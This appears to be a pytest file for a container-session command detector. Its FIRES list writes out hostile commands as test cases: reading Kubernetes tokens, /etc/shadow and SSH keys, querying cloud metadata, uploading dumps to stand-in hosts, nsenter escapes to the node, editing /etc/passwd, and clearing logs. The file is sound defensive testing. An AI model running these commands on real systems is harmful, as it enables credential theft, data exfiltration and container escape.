"""What commands of sessions do."""

import shlex
import time
from collections.abc import Callable, Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from iocaudit.signals import commands
from iocaudit.signals.commands import (
    asks_metadata,
    clears_traces,
    copies_out,
    fetches_from_outside,
    goes_to_node,
    installs_packages,
    is_shell,
    kills_competitors,
    line_of,
    reads_credentials,
    sends_out,
    writes_system_files,
)

ALL: list[Callable[[Sequence[str]], bool]] = [
    asks_metadata,
    clears_traces,
    copies_out,
    fetches_from_outside,
    goes_to_node,
    installs_packages,
    kills_competitors,
    reads_credentials,
    sends_out,
    writes_system_files,
]
FIRES = [
    (reads_credentials, "cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
    (reads_credentials, "cat /run/secrets/eks.amazonaws.com/serviceaccount/token"),
    (reads_credentials, "sh -c 'cat /etc/shadow'"),
    (reads_credentials, "ls /root/.ssh"),
    (reads_credentials, "strings /proc/1/environ"),
    (reads_credentials, "cat /etc/kubernetes/pki/ca.key"),
    (asks_metadata, "curl http://169.254.169.254/latest/meta-data/iam"),
    (asks_metadata, "wget http://2852039166/"),
    (asks_metadata, "curl -H Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/"),
    (fetches_from_outside, "curl -sSL https://files.example.com/x"),
    (fetches_from_outside, "sh -c 'wget -q http://198.51.100.7/x'"),
    (sends_out, "curl -T /data/dump.sql https://drop.example.com"),
    (sends_out, "scp /data/dump.sql eve@198.51.100.7:"),
    (sends_out, "aws s3 cp /data s3://drop"),
    (copies_out, "tar cf - /var/lib/data"),
    (installs_packages, "apt-get update -y && apt-get install -y nmap"),
    (installs_packages, "apk add --no-cache curl"),
    (installs_packages, "pip install requests"),
    (goes_to_node, "nsenter -t 1 -m -u -i -n sh"),
    (goes_to_node, "chroot /host sh"),
    (goes_to_node, "ls /proc/1/root/etc"),
    (writes_system_files, "sh -c 'echo x >> /etc/passwd'"),
    (writes_system_files, "cp x /mnt/etc/cron.d/x"),
    (writes_system_files, "tee /host/etc/kubernetes/manifests/x.yaml"),
    (writes_system_files, "dd if=x of=/usr/bin/ls"),
    (kills_competitors, "pkill -9 kdevtmpfsi"),
    (clears_traces, "sh -c 'history -c'"),
    (clears_traces, "rm -rf /var/log/app"),
]
QUIET = [
    "ls -la /app",
    "cat /etc/resolv.conf",
    "cat /etc/hosts",
    "env",
    "ps aux",
    "curl -s http://localhost:8080/healthz",
    "curl -sk https://kubernetes.default.svc/healthz",
    "wget -qO- http://web.shop.svc.cluster.local/ready",
    "psql -U postgres -c 'select 1'",
    "redis-cli ping",
    "tail -f /var/log/app.log",
    "sh -c 'test -f /tmp/ready'",
    "kill -HUP 1",
    "tar -xmf - -C /tmp",
    "nginx -s reload",
    "bin/rails console",
    "python manage.py migrate",
    "ls /proc/1",
    "sh -c 'echo ok > /tmp/x'",
    "pg_dump mydb",
]


@pytest.mark.parametrize(("judge", "line"), FIRES)
def test_it_is_seen(judge: Callable[[Sequence[str]], bool], line: str) -> None:
    assert judge(shlex.split(line))


@pytest.mark.parametrize("line", QUIET)
def test_what_operators_type_is_quiet(line: str) -> None:
    assert [judge.__name__ for judge in ALL if judge(shlex.split(line))] == []


@pytest.mark.parametrize(
    ("line", "shell"),
    [
        ("sh", True),
        ("/bin/bash -l", True),
        ("env TERM=xterm bash", False),
        ("sh -c 'exec bash || exec sh'", True),
        ("sh -c 'ls /app'", False),
        ("ls", False),
        ("", False),
    ],
)
def test_a_shell_for_someone_to_type_into(line: str, shell: bool) -> None:
    assert is_shell(shlex.split(line)) is shell


def test_a_long_command_is_looked_at_in_part() -> None:
    assert len(line_of(["x" * 100_000])) <= 16 * 1024


@pytest.mark.parametrize("piece", ["curl ", "a.b-", "/etc/", "kill x", "cp /a ", "http://", "sh -c ", "> ", "tar c"])
def test_a_hostile_command_costs_little(piece: str) -> None:
    argv = (piece * 20_000,)
    begin = time.perf_counter()
    for judge in ALL:
        judge(argv)
    assert time.perf_counter() - begin < 5


@given(st.lists(st.text(max_size=30), max_size=5))
def test_any_command_is_judged(argv: list[str]) -> None:
    assert all(isinstance(judge(argv), bool) for judge in (*ALL, commands.is_shell))
